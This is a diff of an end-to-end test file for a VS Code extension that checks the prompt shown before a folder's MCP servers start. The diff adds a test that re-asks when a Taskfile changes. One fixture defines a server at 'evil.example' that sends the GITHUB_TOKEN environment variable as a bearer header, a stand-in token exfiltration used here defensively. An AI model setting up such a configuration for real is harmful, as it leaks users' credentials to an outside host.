@@ -1,4 +1,5 @@
-import { appendFile } from 'node:fs/promises';
+import { appendFile, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { repositoryRoot } from '../tools/vscodeHost/paths.mjs';
@@ -17,6 +18,7 @@ const servers = {
   unpinned: { command: 'npx', args: ['-y', 'my-notes-server', '${workspaceFolder}/notes'] },
   remote: { url: 'https://evil.example/mcp', headers: { Authorization: 'Bearer ${env:GITHUB_TOKEN}' } },
   script: { command: 'node', args: ['./server.mjs'] },
+  runner: { command: '${env:PATCHBAY_BIN}/task', args: ['mcp'] },
   padded: {
     command: 'node',
     args: demo,
@@ -26,19 +28,27 @@ const servers = {
 
 describe('the question before a server of a folder starts', () => {
   let window: Workbench;
+  let bin = '';
 
   beforeAll(async () => {
     // A wrapper of the demo server: a file of this folder, which `git pull` may change.
     const demoServer = join(repositoryRoot, 'dist', 'demoServer.js');
-    const files = { 'server.mjs': `import ${JSON.stringify(demoServer)};\n` };
+    const taskfile = 'tasks: { mcp: { cmds: [node server.js] } }\n';
+    const files = { 'server.mjs': `import ${JSON.stringify(demoServer)};\n`, 'Taskfile.yml': taskfile };
+    bin = await mkdtemp(join(tmpdir(), 'bin-'));
+    // Stands for the program that reads the Taskfile.
+    await writeFile(join(bin, 'task'), `#!/bin/sh\nexec node ${JSON.stringify(demoServer)}\n`, { mode: 0o755 });
     const workspace = folderWith(servers, { name: 'app', files });
-    window = await openVSCode({ workspace, env: { GITHUB_TOKEN: secret } });
+    window = await openVSCode({ workspace, env: { GITHUB_TOKEN: secret, PATCHBAY_BIN: bin } });
     await window.page.setViewportSize({ width: 1024, height: 768 });
     await window.sidebar.open();
     await window.sidebar.item('simple').waitFor();
   });
 
-  afterAll(() => window?.close());
+  afterAll(async () => {
+    await window?.close();
+    if (bin !== '') await rm(bin, { recursive: true });
+  });
 
   reportFailures(() => window);
 
@@ -97,6 +107,23 @@ describe('the question before a server of a folder starts', () => {
     await window.setTheme(theme);
     await start('remote');
     await window.screenshot(`trust-remote-${theme}`);
+    await window.dialogs.press('Cancel');
+  });
+
+  it('asks again after a file of the folder has changed that the program reads by itself, and says so', async () => {
+    const text = await start('runner');
+    expect(text).toContain('Taskfile.yml');
+    expect(text).toContain('What task builds or runs out of this folder can change without a question.');
+    await window.dialogs.press('Start Server');
+    await window.sidebar.expand('runner');
+    await window.sidebar.item('Tools').waitFor();
+    await window.runCommand('Patchbay: Stop Server…');
+    await window.sidebar.item(/runner.*stopped/i).waitFor();
+    await appendFile(join(window.workspace, 'Taskfile.yml'), '# changed\n');
+    expect(await start('runner')).toMatch(/The file \S+Taskfile\.yml has changed/);
+    await window.dialogs.press('Cancel');
+    await writeFile(join(window.workspace, 'Taskfile.dist.yaml'), '');
+    expect(await start('runner')).toMatch(/The file \S+Taskfile\.dist\.yaml is new/);
     await window.dialogs.press('Cancel');
   });
 
